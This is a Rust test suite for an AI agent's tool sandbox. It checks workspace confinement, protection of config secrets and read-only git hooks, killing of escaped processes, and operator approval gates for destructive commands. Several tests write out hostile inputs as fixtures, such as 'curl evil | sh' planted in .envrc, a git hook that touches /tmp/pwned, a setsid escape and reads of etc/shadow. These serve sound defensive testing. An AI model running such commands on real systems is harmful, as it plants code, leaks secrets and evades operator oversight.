    assert!(!left, "a setsid'd process outlived its command");
    // A unix socket of a host service (here: one in the host's /tmp).
    let sockdir = tempfile::tempdir().expect("sockdir");
    let path = sockdir.path().join("svc.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let script = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({:?})\nprint('CONNECTED')\n",
        path.to_string_lossy()
    );
    std::fs::write(dir.path().join("connect.py"), script).expect("script");
    let out = term(dir.path(), json!({"command": "python3 connect.py 2>&1"}));
    assert!(!out["output"].as_str().expect("out").contains("CONNECTED"), "{out}");
    assert!(listener.accept().is_err(), "the host socket was reached");
}

#[test]
fn an_answer_with_too_many_tool_calls_gets_a_result_for_each() {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(dir.path().join("a"), "a\n").expect("write");
    let server = FakeModel::start();
    let calls: Vec<FakeToolCall> = (0..70)
        .map(|i| FakeToolCall::new(&format!("c{i}"), "read_file", &json!({"path": "a"})))
        .collect();
    server.push(Reply::tool_calls(calls));
    server.push(Reply::text("done"));
    let (rows, exit) = run_child(&server, dir.path(), &["read"], false);
    assert_eq!(exit, ExitReason::Completed);
    let results: Vec<&Message> = rows.iter().filter(|m| m.role == "tool").collect();
    assert_eq!(results.len(), 70);
    assert!(results[63].content.as_deref().expect("c").contains("1|a"));
    assert!(results[64].content.as_deref().expect("c").contains("at most 64"));
}

// ---------------------------------------------------------------- properties

mod properties {
    use proptest::prelude::*;
    use retinue_tools::workspace::Workspace;

    fn segment() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("..".to_owned()),
            Just(".".to_owned()),
            Just("".to_owned()),
            Just("a".to_owned()),
            Just("b c".to_owned()),
            Just("~".to_owned()),
            Just("\u{0}".to_owned()),
            "[a-zé]{1,4}",
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        /// Whatever the model sends, an accepted path is relative, has no
        /// `..`, and lies under the root.
        #[test]
        fn accepted_paths_stay_under_the_root(
            parts in proptest::collection::vec(segment(), 0..8),
            absolute in any::<bool>(),
        ) {
            let dir = tempfile::tempdir().expect("tmp");
            let ws = Workspace::open(dir.path()).expect("open");
            let joined = parts.join("/");
            let path = if absolute { format!("{}/{joined}", ws.root().display()) } else { joined };
            if let Ok(inside) = ws.inside(&path) {
                let rel = inside.rel();
                prop_assert!(rel.is_relative());
                prop_assert!(rel.components().all(|c| matches!(c, std::path::Component::Normal(_) | std::path::Component::CurDir)));
                prop_assert!(ws.root().join(rel).starts_with(ws.root()));
            }
        }

        /// Reading never panics and never returns text of a file outside.
        #[test]
        fn reads_of_arbitrary_paths_fail_cleanly(path in "\\PC{0,40}") {
            let outer = tempfile::tempdir().expect("tmp");
            let ws_dir = outer.path().join("ws");
            std::fs::create_dir(&ws_dir).expect("mkdir");
            std::fs::write(outer.path().join("secret"), "SECRET").expect("write");
            let tb = super::toolbox();
            let c = super::child(&ws_dir, &["read"]);
            if let Ok(out) = retinue_runtime::ToolExecutor::execute(&tb, &c, "read_file", &serde_json::json!({"path": path})) {
                prop_assert!(!out.contains("SECRET"));
            }
        }
    }
}

#[test]
fn a_ten_gigabyte_file_is_answered_at_once() {
    let dir = tempfile::tempdir().expect("tmp");
    // Sparse: 10 GB of zeros, then a text line at the end.
    let f = std::fs::File::create(dir.path().join("huge.bin")).expect("create");
    f.set_len(10 << 30).expect("sparse");
    drop(f);
    let tb = toolbox();
    let c = child(dir.path(), &["file"]);
    let r = tb.execute(&c, "read_file", &json!({"path": "huge.bin"}));
    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("binary")), "{r:?}");
    // A search skips it (over the size a search reads), and a patch refuses it.
    let out = ok(tb.execute(&c, "search_files", &json!({"pattern": "x"})));
    assert_eq!(out["total_count"], 0);
    let r = tb.execute(
        &c,
        "patch",
        &json!({"mode": "replace", "path": "huge.bin", "old_string": "a", "new_string": "b"}),
    );
    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("bytes")), "{r:?}");
    // A text file far beyond the scan limit, read from a far offset.
    let text = dir.path().join("long.txt");
    let mut f = std::fs::File::create(&text).expect("create");
    use std::io::Write;
    let line = "y".repeat(1023) + "\n";
    for _ in 0..(300 << 10) {
        f.write_all(line.as_bytes()).expect("write");
    }
    drop(f);
    let r = tb.execute(&c, "read_file", &json!({"path": "long.txt", "offset": 1_000_000}));
    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("beyond the first")), "{r:?}");
}

#[test]
fn a_stopped_child_stops_its_running_command() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let tb = toolbox();
    let c = child(dir.path(), &["terminal"]);
    let cancel = CancelToken::new();
    let stopper = cancel.clone();
    let at = std::time::Instant::now();
    let t = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(300));
        stopper.cancel();
    });
    let out = ok(tb.execute_in(
        &c,
        "terminal",
        &json!({"command": "sleep 30"}),
        &RunContext::new(cancel.clone()),
    ));
    t.join().expect("stopper");
    assert!(at.elapsed() < Duration::from_secs(10), "{:?}", at.elapsed());
    assert_eq!(out["exit_code"], 137, "{out}");
    assert!(out["error"].as_str().expect("error").contains("stopped"), "{out}");
}

// ---------------------------------------------------------------- containment (#35)

/// A toolbox whose home (`home/`) and database (`home/state.db`) lie inside
/// the workspace, as with `cd ~ && retinue delegate`.
fn protected_box(home: &Path) -> Toolbox {
    Toolbox::new(ToolboxConfig {
        terminal: TerminalConfig::default(),
        sandbox_helper: Some(helper()),
        mcp_servers: Vec::new(),
        protected: retinue_tools::workspace::Protected {
            hidden: vec![home.to_path_buf(), home.join("state.db")],
        },
        approvals: Default::default(),
    })
}

#[test]
fn the_home_inside_the_workspace_is_never_reachable_by_the_file_tools() {
    let dir = tempfile::tempdir().expect("tmp");
    let home = dir.path().join(".hermes");
    std::fs::create_dir(&home).expect("mkdir");
    std::fs::write(home.join("config.yaml"), "delegation:\n  api_key: sk-SECRET\n").expect("w");
    std::fs::write(home.join("state.db"), "DB").expect("w");
    std::fs::write(dir.path().join("notes.txt"), "api_key here too? no\n").expect("w");
    let tb = protected_box(&home);
    let c = child(dir.path(), &["file"]);
    for path in [".hermes/config.yaml", ".hermes/state.db", "./.hermes/../.hermes/config.yaml"] {
        let why = refused(tb.execute(&c, "read_file", &json!({"path": path})));
        assert!(why.contains("never reach"), "{path}: {why}");
    }
    let abs = home.join("config.yaml");
    let why = refused(tb.execute(&c, "read_file", &json!({"path": abs.to_str().expect("utf8")})));
    assert!(why.contains("never reach"), "{why}");
    let why = refused(tb.execute(
        &c,
        "write_file",
        &json!({"path": ".hermes/state.db", "content": "gone"}),
    ));
    assert!(why.contains("never reach"), "{why}");
    assert_eq!(std::fs::read_to_string(home.join("state.db")).expect("db"), "DB");
    let why = refused(tb.execute(
        &c,
        "patch",
        &json!({"path": ".hermes/config.yaml", "old_string": "sk-SECRET", "new_string": "x"}),
    ));
    assert!(why.contains("never reach"), "{why}");
    // Searching never lists or reads the home, from the root or into it.
    let found = ok(tb.execute(&c, "search_files", &json!({"pattern": "api_key"})));
    assert!(!found.to_string().contains(".hermes"), "{found}");
    assert!(found.to_string().contains("notes.txt"), "{found}");
    let why = refused(tb.execute(&c, "search_files", &json!({"pattern": "x", "path": ".hermes"})));
    assert!(why.contains("never reach"), "{why}");
}

#[test]
fn a_workspace_of_root_home_or_a_system_directory_is_refused() {
    let tb = toolbox();
    for root in ["/", "/etc", "/usr", "/tmp", "/var", "/proc"] {
        let why = refused(tb.execute(
            &child(Path::new(root), &["read"]),
            "read_file",
            &json!({"path": "etc/shadow"}),
        ));
        assert!(why.contains("refused as a workspace"), "{root}: {why}");
    }
    let home = std::env::var_os("HOME").map(PathBuf::from).expect("HOME");
    let why = refused(tb.execute(&child(&home, &["read"]), "read_file", &json!({"path": "x"})));
    assert!(why.contains("home directory"), "{why}");
    // A symlink to `/` is `/`.
    let dir = tempfile::tempdir().expect("tmp");
    let link = dir.path().join("root");
    std::os::unix::fs::symlink("/", &link).expect("link");
    let why = refused(tb.execute(&child(&link, &["read"]), "read_file", &json!({"path": "x"})));
    assert!(why.contains("refused as a workspace"), "{why}");
    assert!(retinue_tools::workspace::refusal(dir.path()).is_none());
}

#[test]
fn files_that_run_code_later_are_read_only_for_the_file_tools() {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::create_dir_all(dir.path().join(".git/hooks")).expect("mkdir");
    std::fs::write(dir.path().join(".git/config"), "[core]\n").expect("w");
    let tb = toolbox();
    let c = child(dir.path(), &["file"]);
    for path in
        [".git/hooks/pre-commit", ".git/config", ".envrc", ".vscode/tasks.json", "sub/.git/x"]
    {
        let why = refused(tb.execute(
            &c,
            "write_file",
            &json!({"path": path, "content": "#!/bin/sh\ntouch /tmp/pwned\n"}),
        ));
        assert!(why.contains("read-only for children"), "{path}: {why}");
    }
    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
    assert!(!dir.path().join(".envrc").exists());
    // Reading them is fine.
    let read = ok(tb.execute(&c, "read_file", &json!({"path": ".git/config"})));
    assert!(read.to_string().contains("[core]"), "{read}");
}

#[test]
fn names_that_are_not_utf8_are_listed_escaped_and_opened_back() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().expect("tmp");
    let name = std::ffi::OsStr::from_bytes(b"caf\xe9.txt");
    std::fs::write(dir.path().join(name), "bonjour\n").expect("w");
    let tb = toolbox();
    let c = child(dir.path(), &["file"]);
    let found = ok(tb.execute(&c, "search_files", &json!({"pattern": "*.txt", "target": "files"})));
    let listed = found["files"][0].as_str().expect("a file").to_owned();
    assert_eq!(listed, "caf\\xe9.txt");
    let read = ok(tb.execute(&c, "read_file", &json!({"path": listed})));
    assert!(read.to_string().contains("bonjour"), "{read}");
    let patched = tb.execute(
        &c,
        "patch",
        &json!({"path": "caf\\xe9.txt", "old_string": "bonjour", "new_string": "salut"}),
    );
    assert!(patched.is_ok(), "{patched:?}");
    assert_eq!(std::fs::read_to_string(dir.path().join(name)).expect("r"), "salut\n");
}

#[test]
fn the_sandbox_shows_only_the_workspace_tmp_and_the_system() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let ws = dir.path().join("ws");
    let home = ws.join(".hermes");
    std::fs::create_dir_all(&home).expect("mkdir");
    std::fs::write(home.join("config.yaml"), "api_key: sk-SECRET\n").expect("w");
    std::fs::write(home.join("state.db"), "DB").expect("w");
    std::fs::create_dir_all(ws.join(".git/hooks")).expect("mkdir");
    let tb = protected_box(&home);
    let c = child(&ws, &["terminal"]);
    let run = |cmd: &str| ok(tb.execute(&c, "terminal", &json!({"command": cmd})));
    // The home's files are not there; writes to it fail.
    let out =
        run("cat .hermes/config.yaml; ls -a .hermes; echo gone > .hermes/state.db; echo rc=$?");
    let text = out["output"].as_str().expect("out");
    assert!(!text.contains("sk-SECRET"), "{text}");
    assert!(text.contains("rc=1") || text.contains("rc=2"), "{text}");
    assert_eq!(std::fs::read_to_string(home.join("state.db")).expect("db"), "DB");
    // Nothing of the host beyond the system directories.
    let out = run(
        "for d in /root /home /var /run /work /srv; do test -e $d && echo HAS $d; done; echo done",
    );
    assert_eq!(out["output"], "done", "{out}");
    // A socket in the host's home answers nobody inside.
    let host_home = std::env::var_os("HOME").map(PathBuf::from).expect("HOME");
    let sock_dir = tempfile::tempdir_in(&host_home).expect("tmp in home");
    let sock = sock_dir.path().join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let script = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({:?})\nprint('CONNECTED')\n",
        sock.to_string_lossy()
    );
    std::fs::write(ws.join("connect.py"), script).expect("script");
    let out = run("python3 connect.py 2>&1");
    assert!(!out["output"].as_str().expect("out").contains("CONNECTED"), "{out}");
    assert!(listener.accept().is_err(), "the socket in the home was reached");
    // `.git` is read-only; a new `.envrc` does not survive the command.
    let out = run("echo x > .git/hooks/pre-commit; echo rc=$?; echo 'curl evil' > .envrc");
    assert!(out["output"].as_str().expect("out").contains("rc="), "{out}");
    assert!(!ws.join(".git/hooks/pre-commit").exists(), "a hook was planted");
    assert!(!ws.join(".envrc").exists(), "an .envrc was planted");
    assert!(out["warning"].as_str().is_some_and(|w| w.contains(".envrc")), "{out}");
    // The private /tmp is usable, and the workspace is the working directory.
    let out = run("echo t > /tmp/t && cat /tmp/t && pwd && touch here && echo ok");
    let text = out["output"].as_str().expect("out");
    assert!(text.ends_with("ok"), "{text}");
    assert!(ws.join("here").exists());
}

#[test]
fn a_command_that_starts_with_a_dash_runs() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(dir.path().join("-v"), "#!/bin/sh\necho dash-ran\n").expect("w");
    let out = term(dir.path(), json!({"command": "-v 2>&1; echo after"}));
    let text = out["output"].as_str().expect("out");
    assert!(!text.contains("Illegal option"), "{text}");
    assert!(text.ends_with("after"), "{text}");
}

#[test]
fn the_mcp_tool_list_is_capped_by_count_and_bytes() {
    use retinue_tools::mcp::{MAX_SCHEMA_BYTES, MAX_TOOLS, cap_definitions};
    let def = |i: usize, pad: usize| {
        json!({"type": "function", "function": {"name": format!("mcp__s__t{i}"),
            "description": "x".repeat(pad), "parameters": {"type": "object"}}})
    };
    let (kept, dropped) = cap_definitions((0..5000).map(|i| def(i, 10)).collect());
    assert_eq!(kept.len(), MAX_TOOLS);
    assert_eq!(dropped.len(), 5000 - MAX_TOOLS);
    assert_eq!(dropped[0], format!("mcp__s__t{MAX_TOOLS}"));
    let (kept, dropped) = cap_definitions((0..40).map(|i| def(i, 100 << 10)).collect());
    let bytes: usize = kept.iter().map(|d| d.to_string().len()).sum();
    assert!(bytes <= MAX_SCHEMA_BYTES && !kept.is_empty(), "{bytes}");
    assert_eq!(kept.len() + dropped.len(), 40);
}

#[test]
fn duplicate_tool_call_ids_are_replaced_so_each_result_is_replayed_as_its_own() {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(dir.path().join("a"), "alpha\n").expect("write");
    std::fs::write(dir.path().join("b"), "beta\n").expect("write");
    let server = FakeModel::start();
    let long = "x".repeat(300);
    server.push(Reply::tool_calls(vec![
        FakeToolCall::new("same", "read_file", &json!({"path": "a"})),
        FakeToolCall::new("same", "read_file", &json!({"path": "b"})),
        FakeToolCall::new(&long, "read_file", &json!({"path": "a"})),
    ]));
    server.push(Reply::text("first done"));
    let (rows, exit) = run_child(&server, dir.path(), &["read"], false);
    assert_eq!(exit, ExitReason::Completed);
    let results: Vec<&Message> = rows.iter().filter(|m| m.role == "tool").collect();
    let ids: Vec<&str> = results.iter().filter_map(|m| m.tool_call_id.as_deref()).collect();
    assert_eq!(ids.len(), 3);
    assert_eq!(ids[0], "same");
    assert!(ids[1] != "same" && ids[2] != long && ids[2] != ids[1], "{ids:?}");
    assert!(ids.iter().all(|i| i.len() <= 40));
    // The assistant row carries the same replacements.
    let assistant = rows.iter().find(|m| m.tool_calls.is_some()).expect("calls");
    let stored: Value =
        serde_json::from_str(assistant.tool_calls.as_deref().expect("c")).expect("j");
    let stored_ids: Vec<&str> =
        stored.as_array().expect("array").iter().filter_map(|c| c["id"].as_str()).collect();
    assert_eq!(stored_ids, ids);
    // The provider's second request pairs each id with its own result.
    let requests = server.requests();
    let second = requests[1].messages();
    let tool_msgs: Vec<&Value> = second.iter().filter(|m| m["role"] == "tool").collect();
    assert_eq!(tool_msgs.len(), 3);
    assert_eq!(tool_msgs[1]["tool_call_id"], ids[1]);
    assert!(tool_msgs[0]["content"].as_str().expect("c").contains("alpha"));
    assert!(tool_msgs[1]["content"].as_str().expect("c").contains("beta"), "{second:?}");
    assert!(!second.iter().any(|m| m.to_string().contains("no result")), "{second:?}");
}

#[test]
fn an_mcp_result_over_the_limit_fails_at_once_and_the_server_stays_usable() {
    let dir = tempfile::tempdir().expect("tmp");
    let mut config = fake_server("big");
    config.timeout_seconds = 60.0;
    let tb = mcp_box(vec![config]);
    let c = child(dir.path(), &["mcp-big"]);
    let small = tb.execute(&c, "mcp__big__big", &json!({"mb": 1})).expect("1 MB");
    assert!(small.len() >= 99_000, "{}", small.len());
    for mb in [20, 60] {
        let started = std::time::Instant::now();
        let r = tb.execute(&c, "mcp__big__big", &json!({"mb": mb}));
        assert!(
            matches!(&r, Err(ToolError::Failed(t)) if t.contains(&format!("too large: {mb} MB, limit 8 MB"))),
            "{mb} MB: {r:?}"
        );
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "answered at once, not at the timeout"
        );
        // The same connection still answers.
        assert_eq!(
            tb.execute(&c, "mcp__big__echo", &json!({"text": "still here"})).expect("echo"),
            "still here"
        );
    }
}

/// #35: an MCP server URL's userinfo is never sent (it went out as
/// `Authorization: Basic`), and neither it nor a `?token=` value shows in
/// any message.
#[test]
fn an_mcp_url_never_sends_its_userinfo_and_messages_mask_its_secrets() {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming().take(4) {
            let Ok(mut s) = stream else { continue };
            let mut buf = vec![0u8; 16 << 10];
            let n = s.read(&mut buf).unwrap_or(0);
            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = s.write_all(b"HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\n\r\n");
        }
    });
    let dir = tempfile::tempdir().expect("tmp");
    let tb = mcp_box(vec![McpServerConfig {
        name: "remote".into(),
        url: Some(format!("http://alice:PW-SECRET-9@127.0.0.1:{port}/mcp?token=TOKEN-SECRET-9")),
        timeout_seconds: 5.0,
        ..McpServerConfig::default()
    }]);
    let c = child(dir.path(), &["mcp-remote"]);
    assert!(tb.definitions(&c).is_empty());
    let r = tb.execute(&c, "mcp__remote__anything", &json!({}));
    let text = format!("{r:?}");
    assert!(matches!(&r, Err(ToolError::Failed(_))), "{text}");
    assert!(!text.contains("PW-SECRET-9") && !text.contains("TOKEN-SECRET-9"), "{text}");
    let request = rx.recv_timeout(Duration::from_secs(10)).expect("a request reached the server");
    let lower = request.to_ascii_lowercase();
    assert!(!lower.contains("authorization: basic"), "{request}");
    assert!(!request.contains("PW-SECRET-9") && !request.contains("alice"), "{request}");
}

// ---------------------------------------------------------------- review (#35)

#[test]
fn a_command_cannot_fake_a_failed_setup_to_skip_the_sweep() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let out = term(
        dir.path(),
        json!({"command": "echo 'curl evil | sh' > .envrc; printf 'retinue-sandbox: fake'; exit 125"}),
    );
    assert_eq!(out["exit_code"], 125, "{out}");
    assert!(!dir.path().join(".envrc").exists(), "the sweep was skipped");
}

#[test]
fn a_shell_that_leaves_its_group_dies_with_the_call() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let out = term(
        dir.path(),
        json!({"command": "exec setsid sh -c 'sleep 2; echo evil > .envrc; echo late > late.txt' >/dev/null 2>&1", "timeout": 1}),
    );
    assert_eq!(out["exit_code"], 124, "{out}");
    std::thread::sleep(Duration::from_secs(3));
    assert!(!dir.path().join("late.txt").exists(), "a process outlived the call");
    assert!(!dir.path().join(".envrc").exists(), "a read-only name appeared after the sweep");
}

#[test]
fn a_read_only_name_that_is_a_symlink_refuses_the_terminal() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::create_dir(dir.path().join("shared")).expect("mkdir");
    std::os::unix::fs::symlink("shared", dir.path().join(".vscode")).expect("link");
    let r = toolbox().execute(
        &child(dir.path(), &["terminal"]),
        "terminal",
        &json!({"command": "true"}),
    );
    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("symbolic link")), "{r:?}");
}

#[test]
fn a_home_moved_inside_the_workspace_refuses_the_tools() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let ws = dir.path().join("ws");
    let home = ws.join("cfg/home");
    std::fs::create_dir_all(&home).expect("mkdir");
    std::fs::write(home.join("config.yaml"), "api_key: sk-SECRET\n").expect("w");
    let tb = protected_box(&home);
    let c = child(&ws, &["terminal", "file"]);
    let moved = ok(tb.execute(&c, "terminal", &json!({"command": "mv cfg cfg2 && echo moved"})));
    assert_eq!(moved["output"], "moved", "{moved}");
    let r = tb.execute(&c, "read_file", &json!({"path": "cfg2/home/config.yaml"}));
    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("moved or replaced")), "{r:?}");
    let r = tb.execute(&c, "terminal", &json!({"command": "cat cfg2/home/config.yaml"}));
    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("moved or replaced")), "{r:?}");
}

#[test]
fn refused_workspaces_are_compared_canonically_and_by_home_ancestry() {
    use retinue_tools::workspace::refusal;
    for bad in ["/bin", "/usr/bin", "/usr/local/lib", "/etc/cron.d", "/dev/shm", "/usr/share/doc"] {
        if Path::new(bad).exists() {
            assert!(refusal(Path::new(bad)).is_some(), "{bad}");
        }
    }
    let home = std::env::var_os("HOME").map(PathBuf::from).expect("HOME");
    if let Some(parent) = home.parent() {
        assert!(refusal(parent).is_some(), "{}", parent.display());
    }
    let dir = tempfile::tempdir().expect("tmp");
    assert!(refusal(dir.path()).is_none());
}

#[test]
fn read_only_names_are_matched_without_case() {
    let dir = tempfile::tempdir().expect("tmp");
    let tb = toolbox();
    let c = child(dir.path(), &["file"]);
    for path in [".GIT/hooks/pre-commit", ".EnvRc", "a/.VSCode/tasks.json"] {
        let why = refused(tb.execute(&c, "write_file", &json!({"path": path, "content": "x"})));
        assert!(why.contains("read-only for children"), "{path}: {why}");
    }
}

// ---------------------------------------------------------------- approvals

/// A gate that answers as scripted and remembers what it was asked.
struct ScriptedGate {
    answer: retinue_core::run::GateAnswer,
    asked: Mutex<Vec<retinue_core::run::GatedCall>>,
}

impl retinue_core::run::ApprovalGate for ScriptedGate {
    fn ask(
        &self,
        _child: &ChildHandle,
        call: &retinue_core::run::GatedCall,
        _cancel: &CancelToken,
    ) -> retinue_core::run::GateAnswer {
        self.asked.lock().expect("lock").push(call.clone());
        self.answer.clone()
    }
}

fn gated(answer: retinue_core::run::GateAnswer) -> (Arc<ScriptedGate>, RunContext) {
    let gate = Arc::new(ScriptedGate { answer, asked: Mutex::new(Vec::new()) });
    let ctx = RunContext::new(CancelToken::new()).with_approvals(gate.clone());
    (gate, ctx)
}

#[test]
fn a_risky_command_waits_for_the_gate_and_runs_only_when_approved() {
    use retinue_core::run::GateAnswer;
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::create_dir(dir.path().join("build")).expect("build/");
    let tb = toolbox();
    let c = child(dir.path(), &["terminal"]);
    let rm = json!({"command": "TOKEN=s3cret rm -rf build"});

    // Denied: the model reads the denial and build/ is still there.
    let (gate, ctx) = gated(GateAnswer::Refuse("denied by operator: not now".into()));
    let why = refused(tb.execute_in(&c, "terminal", &rm, &ctx));
    assert_eq!(why, "denied by operator: not now");
    assert!(dir.path().join("build").exists());
    let asked = gate.asked.lock().expect("lock").clone();
    assert_eq!(asked.len(), 1);
    assert_eq!(asked[0].tool, "terminal");
    assert!(asked[0].reason.contains("delet"), "{}", asked[0].reason);
    assert_eq!(asked[0].arguments["command"], "TOKEN=[redacted] rm -rf build", "no secret stored");

    // Nobody to ask: refused, never run.
    let why = refused(tb.execute(&c, "terminal", &rm));
    assert!(why.contains("nobody can approve"), "{why}");
    assert!(dir.path().join("build").exists());

    // A safe command never asks.
    let (gate, ctx) = gated(GateAnswer::Refuse("unused".into()));
    let out = tb.execute_in(&c, "terminal", &json!({"command": "ls"}), &ctx).expect("ls runs");
    assert!(out.contains("build"), "{out}");
    assert!(gate.asked.lock().expect("lock").is_empty());

    // Approved: it ran, its output came back after the decision.
    let (_, ctx) = gated(GateAnswer::Run("approved by operator (appr_1)".into()));
    let out = tb.execute_in(&c, "terminal", &rm, &ctx).expect("ran");
    assert!(out.starts_with("[approved by operator (appr_1)]\n"), "{out}");
    assert!(!dir.path().join("build").exists(), "the command ran");
}

#[test]
fn rules_decide_before_the_classifier_and_a_destructive_mcp_tool_asks() {
    use retinue_config::{ApprovalAction, ApprovalPolicy, ApprovalRule};
    use retinue_core::run::GateAnswer;
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::create_dir(dir.path().join("docs")).expect("docs/");
    let rule = |tool: &str, path: Option<&str>, decision| ApprovalRule {
        tool: tool.into(),
        command: None,
        path: path.map(Into::into),
        decision,
    };
    let tb = Toolbox::new(ToolboxConfig {
        terminal: TerminalConfig::default(),
        sandbox_helper: Some(helper()),
        mcp_servers: vec![fake_server("fake")],
        approvals: ApprovalPolicy {
            rules: vec![
                rule("write_file", Some("docs/**"), ApprovalAction::Allow),
                rule("write_file", None, ApprovalAction::Ask),
                rule("mcp__fake__echo", None, ApprovalAction::Deny),
            ],
            ..ApprovalPolicy::default()
        },
        ..ToolboxConfig::default()
    });
    let c = child(dir.path(), &["file", "mcp-fake"]);
    let (gate, ctx) = gated(GateAnswer::Refuse("denied by web: no".into()));
    let write = |path: &str| json!({"path": path, "content": "x"});
    tb.execute_in(&c, "write_file", &write("docs/a.md"), &ctx).expect("allowed by rule");
    assert_eq!(
        refused(tb.execute_in(&c, "write_file", &write("src/a.rs"), &ctx)),
        "denied by web: no"
    );
    assert!(!dir.path().join("src/a.rs").exists());
    let why = refused(tb.execute_in(&c, "mcp__fake__echo", &json!({"text": "hi"}), &ctx));
    assert!(why.contains("approvals rule 3"), "{why}");
    assert_eq!(
        refused(tb.execute_in(&c, "mcp__fake__wipe", &json!({}), &ctx)),
        "denied by web: no"
    );
    let asked: Vec<String> =
        gate.asked.lock().expect("lock").iter().map(|a| a.tool.clone()).collect();
    assert_eq!(asked, vec!["write_file", "mcp__fake__wipe"], "rules first, then destructiveHint");
    // The harmless MCP tool still runs.
    let out = tb.execute_in(&c, "mcp__fake__add", &json!({"a": 1, "b": 2}), &ctx).expect("add");
    assert!(out.contains('3'), "{out}");
}
